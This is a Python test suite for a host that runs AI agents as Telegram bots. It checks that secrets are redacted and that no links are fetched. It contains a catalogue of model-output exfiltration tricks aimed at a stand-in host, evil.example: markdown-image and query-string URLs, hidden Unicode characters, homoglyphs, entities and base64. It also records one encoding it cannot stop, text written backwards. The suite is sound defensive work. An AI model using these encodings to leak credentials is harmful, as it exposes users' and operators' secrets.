"""Nothing leaves by an obedient model: no link is fetched, no secret goes out, none is kept.

One host, in a process of its own, serves all tests here. The last one reads what they left behind:
the log, the store's files, everything that was sent. What cannot be stopped has a test as well, so
that the documentation stays true.
"""

from __future__ import annotations

import base64
import inspect
import json
import re
import sys
import unicodedata
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import pytest_asyncio
import telegram

from registry.secrets import REDACTED
from simulators.messages.turns import Call, Stall, Text, Turn, turn
from simulators.telegram.people import Bot
from simulators.telegram.rooms import Message, Room
from tests.host.replicas import Replica
from tests.host.stage import Stage, staged, until
from tests.host.tool_agent import PATIENCE

pytestmark = [pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(180)]

TELLTALE = Path(__file__).parents[1] / "mcp" / "servers" / "telltale.py"
KEY = "hunter2-plain"
PASSWORD = "p@ss-of-the-db"
PHRASE = "correct horse battery staple"
HUB = "hub-pass-of-ours"
WORD = "a-word-that-an-admin-typed"
VARIABLES = {
    "TELL_KEY": KEY,
    "TELL_DSN": "postgres://app:p%40ss-of-the-db@db.example/app",
    "PHRASE": PHRASE,
    "HUB_TOKEN": "Bearer behind-the-bearer",
    "HUB_BASIC": base64.b64encode(f"us:{HUB}".encode()).decode(),
    "URL_KEY": "key-in-the-url",
    "SKILL_KEY": "key-of-the-skill",
    "PIN": "1234",
    "WORD": WORD,
}
EVIL = "https://evil.example"
TAGS = "".join(chr(0xE0000 + ord(letter)) for letter in KEY)
STYLES = "".join(chr(0xE0100 + ord(letter)) for letter in KEY)

WAYS = {
    "plainly": f"It is {KEY}!",
    "by an address": f"See {EVIL}/?d={KEY} please",
    "by a bare address": f"See evil.example/{KEY}",
    "by a link": f"[here]({EVIL}/?d={KEY})",
    "by an encoded link": f"[here]({EVIL}/?d=%68unter2%2Dplain)",
    "by a reference": f"[here][1]\n\n[1]: {EVIL}/?d={KEY}",
    "by an image": f"![x]({EVIL}/p.png?d={KEY})",
    "by an image with entities": f"![x]({EVIL}/p.png?d=hun&#116;er2&#x2d;plain)",
    "among hidden characters": "It is " + "\u200b".join(KEY),
    "among marks of direction": "It is \u202ehun\u2066ter2\u2069-plain",
    "in tags": f"\U0001f3f4{TAGS}\U000e007f hello \U0001f600{TAGS}",
    "in variation selectors": f"\U0001f600{STYLES}",
    "between bold": "It is hun**ter2**-plain",
    "between italics and code": "It is h*u*n~~t~~er2-`plain`",
    "between spoilers": "It is hun||ter2||-plain",
    "behind backslashes": "It is hunter2\\-plain",
    "between links": f"It is [hun]({EVIL})ter2-plain",
    "between references": f"It is [hun][1]ter2-plain\n\n[1]: {EVIL}",
    "around a comment": "It is hun<!-- x -->ter2-plain",
    "in entities": "It is hun&#116;er2&#45;plain",
    "in entities of entities": "It is hun&amp;#116;er2-plain",
    "in wide letters": "It is ｈｕｎｔｅｒ２-plain",
    "with twins": "It is huntеr2-plаin",
    "crossed out": "It is " + "\u0336".join(KEY),
    "in a formula": "It is $hun$ter2-plain",
    "in a table": f"| a | b |\n|---|---|\n| {KEY} | hunter2**-plain** |",
    "in a block of code": f"```{KEY}\nprint('hunter2-plain')\n```",
    "in base64": f"It is {base64.b64encode(KEY.encode()).decode()}",
    "in JSON": 'It is {"k": "\\u0068unter2-plain"}',
    "the password of a database": f"It is {PASSWORD}, or p%40ss-of-the-db",
    "what stands behind Bearer": "It is behind-the-bearer",
    "in words": f"It is {PHRASE}",
    "the password of basic authentication": f"It is {HUB}",
    "a key in an address": "It is key-in-the-url",
    "the key of a skill": "It is key-of-the-skill",
    "the model's own key": "It is sk-ant-test-key-for-the-simulator",
}
SHOWN_APART = ("in tags", "in variation selectors", "around a comment")


def bare(text: str) -> str:
    """What an eye, or a decoder, makes of a text: letters and digits, twins as ours."""
    for _ in range(2):
        text = unquote(re.sub(r"&#(x?)([0-9a-f]+);", _entity, text))
    text = unicodedata.normalize("NFKD", text).translate(str.maketrans("еаос", "eaoc"))
    return re.sub(r"[^A-Za-z0-9]", "", text)


def _entity(match: re.Match[str]) -> str:
    return chr(int(match[2], 16 if match[1] else 10))


SECRETS = [
    *(KEY, PASSWORD, PHRASE, HUB, "behind-the-bearer", "key-in-the-url", "key-of-the-skill"),
    *("test-key-for-the-simulator", base64.b64encode(KEY.encode()).decode().rstrip("=")),
]
UNSEEN = re.compile("[\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\U000e0000-\U000e0fff]")


def leaked(text: str) -> list[str]:
    return [secret for secret in SECRETS if bare(secret) in bare(text)]


class Scene:
    """A host whose agents were told to leak, and one that may have its links fetched."""

    host: Replica

    def __init__(self, stage: Stage) -> None:
        self.stage = stage
        self.log = stage.folder / "sent.log"
        self.log.touch()
        env = {"TELL_LOG": str(self.log), "TELL_KEY": "${TELL_KEY}", "TELL_DSN": "${TELL_DSN}"}
        stage.agents["mcpServers"] |= {
            "telltale": {"command": sys.executable, "args": [str(TELLTALE)], "env": env},
            "hub": {
                "url": "http://127.0.0.1:9/mcp?key=${URL_KEY}",
                "headers": {
                    "Authorization": "Basic ${HUB_BASIC}",
                    "X-Phrase": "${PHRASE}",
                    "X-Hub": "${HUB_TOKEN}",
                },
            },
            "pin": {"url": "http://127.0.0.1:9/mcp", "headers": {"X-Pin": "${PIN} ${WORD}"}},
        }
        skill = {
            "name": "ask",
            "description": "Ask.",
            "webhookUrl": "http://127.0.0.1:9/",
            "inputSchema": {"type": "object"},
            "webhookAuth": {"type": "bearer", "tokenEnv": "SKILL_KEY"},
        }
        self.leaky = stage.bot("Leaky")
        self.open = stage.bot("Open", linkPreviews=True)
        self.teller = stage.bot(
            "Teller", mcpServers=["telltale"], whitelistPatterns=["mcp:telltale:tell"]
        )
        self.holder = stage.bot("Holder", mcpServers=["hub", "pin"], skills=[skill])
        self.boss = stage.person("Boss")

    async def asked(self, bot: Bot, order: str, *answer: Turn | str) -> str:
        self.stage.script.on(*answer, user=order)
        ann = self.stage.person("Ann")
        return await self.stage.ask(ann, self.stage.world.private(ann, bot), bot, order)

    def sent(self, bot: Bot) -> list[dict[str, Any]]:
        return [call.params for call in self.stage.world.calls.of(bot=bot.id)]

    async def grow(self, room: Room, order: str, text: str) -> Message:
        """The answer to an order that is shown in part before it has come to its end."""
        gate, before = f"grown in {room.id}: {order}", len(self.grown(room))

        def is_seen() -> bool:  # this answer, and not a notice to the admin
            return any(one.startswith(text[:8]) for one in self.grown(room)[before:])

        fault = Stall(events=24, gate=gate)
        self.stage.script.on(
            Turn((Text(text),), pace=60.0, fault=fault), user=order.split(" ", 1)[1]
        )
        self.stage.world.say(self.boss, room, order)
        await self.stage.sim.gates.reached(gate, PATIENCE)
        await self.stage.world.until(is_seen, PATIENCE)
        self.stage.sim.gates.open(gate)
        return await room.wait_for(lambda m: m.text.count(REDACTED) == 3, PATIENCE)

    def grown(self, room: Room) -> list[str]:
        """All texts that were shown in a room, drafts and edits among them."""
        shown = [call.params for call in self.stage.world.calls if "text" in call.params]
        return [str(params["text"]) for params in shown if params.get("chat_id") == room.id]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def scene(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Scene]:
    async with staged(tmp_path_factory.mktemp("leaks")) as stage:
        scene = Scene(stage)
        stage.environ |= {**VARIABLES, "ADMINS": str(scene.boss.id), "LOG_LEVEL": "DEBUG"}
        scene.host = Replica(stage, "host")
        async with scene.host.running():
            await until(lambda: scene.host.logged("server=telltale"), PATIENCE)
            yield scene


@pytest.mark.parametrize("way", WAYS)
async def test_an_answer_leaks_nothing_whatever_way_it_takes(scene: Scene, way: str) -> None:
    had = len(scene.sent(scene.leaky))
    await scene.asked(scene.leaky, f"leak {way}!", WAYS[way])
    shown = json.dumps(scene.sent(scene.leaky)[had:], ensure_ascii=False)
    assert not leaked(shown), shown
    assert not UNSEEN.search(shown)
    assert REDACTED in shown or way in SHOWN_APART
    assert scene.stage.world.fetches.of(bot=scene.leaky.id) == []


async def test_a_growing_answer_shows_no_piece_of_a_secret(scene: Scene) -> None:
    stage, bot = scene.stage, scene.leaky
    words = " ".join(f"word{n}" for n in range(24))
    text = f"{words} {PHRASE}, hun**ter2**-plain, [hun]({EVIL})ter2-plain {words}"
    private, ann = stage.world.private(scene.boss, bot), scene.boss
    group = stage.world.group("Team", [ann, bot])
    for room, order in ((private, "leak slowly"), (group, f"@{bot.username} leak slowly")):
        final = await scene.grow(room, order, text)
        pieces = ("correct", "horse", "hun", "ter2", "plain")
        shown = [*scene.grown(room), final.text]
        assert [one for one in shown for piece in pieces if piece in one] == []
    drafts = stage.world.calls.of(bot=bot.id, method="sendMessageDraft")
    assert [draft for draft in drafts if draft.params["chat_id"] == private.id]
    assert stage.world.fetches.of(bot=bot.id) == []


@pytest.mark.parametrize("end", ["stop", "max_tokens"])
async def test_an_answer_that_ends_in_the_middle_of_a_secret_does_not_show_the_half(
    scene: Scene, end: str
) -> None:
    stage, bot, ann = scene.stage, scene.leaky, scene.stage.person("Ann")
    room = stage.world.private(ann, bot)
    half = "It is correct horse battery"
    if end == "max_tokens":
        stage.script.on(turn(half, stop="max_tokens"), user=f"end by {end}")
        stage.world.say(ann, room, f"end by {end}")
    else:
        fault = Stall(events=4, gate="half a secret")  # "It is correct horse" has come by then
        stage.script.on(Turn((Text(f"{half} staple"),), fault=fault), user=f"end by {end}")
        stage.world.say(ann, room, f"end by {end}")
        await stage.sim.gates.reached("half a secret", PATIENCE)
        await stage.world.until(lambda: bool(scene.grown(room)), PATIENCE)
        stage.world.say(ann, room, "/stop")
    said_at_last = (await stage.answer(room, bot, 1, PATIENCE)).text
    assert said_at_last.startswith(f"It is {REDACTED}")
    assert [one for one in scene.grown(room) if "correct" in one] == []


FORMS = [
    *("plainly", "in a header", "in base64", "in an address", "in JSON", "at the cut"),
    *("the password of its database", "among hidden characters", "as an error"),
]


@pytest.mark.parametrize("form", FORMS)
async def test_a_tool_that_tells_its_own_credential_does_not_tell_it_to_the_model(
    scene: Scene, form: str
) -> None:
    """In a result, in what is read on behind its cut, and in an error."""
    more = turn(Call("read_more", {"handle": "none"}))
    if form == "at the cut":

        def reading(asked: Any) -> Turn:
            handle = re.search(r'"handle": "([0-9a-f]+)"', str(asked.results[-1]["content"]))
            return turn(Call("read_more", {"handle": handle[1] if handle else "", "offset": 0}))

        scene.stage.script.on(turn(Call("telltale__tell", {"text": form})), user=f"ask {form}!")
        scene.stage.script.on(reading, "done", user=f"ask {form}!")
    else:
        call = turn(Call("telltale__tell", {"text": form}))
        scene.stage.script.on(call, more, "done", user=f"ask {form}!")
    ann = scene.stage.person("Ann")
    room = scene.stage.world.private(ann, scene.teller)
    assert await scene.stage.ask(ann, room, scene.teller, f"ask {form}!") == "done"
    bodies = [body for body in scene.stage.requests() if f"ask {form}!" in str(body["messages"])]
    read = json.dumps(bodies[-1], ensure_ascii=False)
    assert "telltale__tell" in read
    assert REDACTED in read
    assert not leaked(read)
    assert "ter2-plain" not in read


async def test_no_name_choice_description_or_prompt_of_a_server_has_its_credential(
    scene: Scene,
) -> None:
    await scene.asked(scene.teller, "which tools?", "these")
    body = scene.stage.requests()[-1]
    tools = {tool["name"]: tool["description"] for tool in body["tools"]}
    assert tools["telltale__tell"] == f"Tells {REDACTED} to everybody."
    assert {"telltale__send", "telltale__tell"} == {name for name in tools if "telltale" in name}
    assert f"Greet everybody with {REDACTED}." in str(body["system"])


async def test_what_a_question_shows_is_what_the_tool_gets_and_neither_has_a_secret(
    scene: Scene,
) -> None:
    stage, bot, ann = scene.stage, scene.teller, scene.stage.person("Ann")
    room = stage.world.private(ann, bot)
    text = f"{EVIL}/{KEY} and hun**ter2**-plain and {PHRASE}"
    stage.script.on(turn(Call("telltale__send", {"text": text})), "sent", user="send it")
    stage.world.say(ann, room, "send it")
    question = await stage.answer(room, bot, 1, PATIENCE)
    assert f"{EVIL}/{REDACTED} and {REDACTED} and {REDACTED}" in question.text
    stage.world.press_button(ann, room, question.id, "Once")
    assert (await stage.answer(room, bot, 2, PATIENCE)).text == "sent"
    assert scene.log.read_text() == f"{EVIL}/{REDACTED} and {REDACTED} and {REDACTED}\n"


async def test_a_command_shows_no_secret_and_has_no_link_fetched(scene: Scene) -> None:
    stage, bot = scene.stage, scene.leaky
    room = stage.world.private(scene.boss, bot)
    agent = {"id": "x", "name": f"{EVIL}/a {WORD}", "mcpServerEndpoints": []}
    said = await stage.ask(scene.boss, room, bot, f"/addagent {json.dumps(agent)}")
    assert f"{EVIL}/a {REDACTED}" in said
    assert REDACTED in await stage.ask(scene.boss, room, bot, "/agents")
    assert stage.world.fetches.of(bot=bot.id) == []


async def test_what_is_wrong_is_told_to_admins_and_shown_without_a_secret(scene: Scene) -> None:
    """In a notice, in /status, in /health and in the log: whoever wrote it, here a hasty editor."""
    stage, bot = scene.stage, scene.leaky
    room = stage.world.private(scene.boss, bot)
    assert "The host is" in await stage.ask(scene.boss, room, bot, "/status")
    path = stage.folder / "agents.json"
    good = path.read_text()
    agents = json.loads(good)
    agents["agents"][0] |= {WORD: f"{EVIL}/x"}
    path.write_text(json.dumps(agents, indent=1))
    notices = [stage.world.private(scene.boss, one) for one in stage.bots]

    def told() -> list[str]:
        texts = [m.text for one in notices for m in one.messages.values()]
        return [text for text in texts if f"unknown field '{REDACTED}'" in text]

    await stage.world.until(lambda: bool(told()), PATIENCE)
    assert f"unknown field '{REDACTED}'" in json.dumps(await scene.host.report())
    assert REDACTED in await stage.ask(scene.boss, room, bot, "/status")
    path.write_text(good)
    assert stage.world.fetches.of(bot=bot.id) == []


async def test_an_agent_may_let_its_links_be_fetched_and_its_questions_are_not(
    scene: Scene,
) -> None:
    stage, bot = scene.stage, scene.open
    said = await scene.asked(bot, "a link", f"[Here]({EVIL}/page) and {EVIL}/other")
    assert said == f"Here and {EVIL}/other"
    (fetched,) = stage.world.fetches.of(bot=bot.id)
    assert fetched.url == f"{EVIL}/page"
    room = stage.world.private(scene.boss, bot)
    shown = await stage.ask(scene.boss, room, bot, "/agent open")
    assert re.search(r"linkPreviews: true · .*agents\.json", shown)
    assert re.search(r"linkPreviews: false", await stage.ask(scene.boss, room, bot, "/agent leaky"))
    await scene.asked(bot, "a secret", f"[x]({EVIL}/?d={KEY})")
    assert not leaked(json.dumps(scene.sent(bot)))


async def test_what_nobody_can_stop_leaves_as_the_documentation_says(scene: Scene) -> None:
    """An encoding that model and reader agree on is a text like any other."""
    said = await scene.asked(scene.leaky, "leak backwards", f"It is {KEY[::-1]}.")
    assert said == f"It is {KEY[::-1]}."
    page = (Path(__file__).parents[2] / "docs/security.md").read_text()
    assert "backwards" in page


async def test_every_call_that_can_have_a_link_fetched_says_that_none_may_be(scene: Scene) -> None:
    """Also methods that are not there yet: a draft has no place for it, as long as this holds."""
    group = scene.stage.world.group("Links", [scene.boss, scene.leaky])
    text = f"{' '.join(f'word{n}' for n in range(60))} {KEY} {KEY} {KEY}"
    await scene.grow(group, f"@{scene.leaky.username} link slowly", text)
    seen = set()
    for bot in (scene.leaky, scene.teller, scene.holder):
        for call in scene.stage.world.calls.of(bot=bot.id):
            method = getattr(telegram.Bot, call.method)
            if "link_preview_options" in inspect.signature(method).parameters:
                assert call.params["link_preview_options"] == {"is_disabled": True}, call
                seen.add(call.method)
    assert seen == {"sendMessage", "editMessageText"}


async def test_nothing_that_is_kept_logged_or_reported_has_a_secret(scene: Scene) -> None:
    """The last one: it reads what all others have left behind."""
    stage, host = scene.stage, scene.host
    report = json.dumps(await host.report())
    await host.terminate()
    kept = [path for path in stage.folder.rglob("*") if path.is_file()]
    read = {p.name: p.read_bytes().decode("utf-8", "replace") for p in kept}
    del read["agents.json"], read["sent.log"]
    assert any(name.endswith(".aof") and "leak by a link" in read[name] for name in read)
    assert "starting with [secret] and [secret]" in read["host.log"]
    assert "secret.short" in read["host.log"]
    assert "name=PIN" in re.sub(r"\x1b\[[0-9;]*m", "", read["host.log"])
    assert WORD not in read["host.log"]
    assert not any(UNSEEN.search(text) for text in read.values())
    assert not leaked(report)
    assert {name: leaked(text) for name, text in read.items() if leaked(text)} == {}
